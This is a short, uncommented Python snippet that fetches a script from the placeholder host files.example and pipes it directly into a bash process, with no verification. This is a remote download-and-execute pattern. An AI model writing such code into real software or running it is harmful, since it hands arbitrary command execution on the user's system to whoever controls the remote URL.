import subprocess
import urllib.request

child = subprocess.Popen(["bash"], stdin=subprocess.PIPE)
child.communicate(urllib.request.urlopen("http://files.example/a").read())
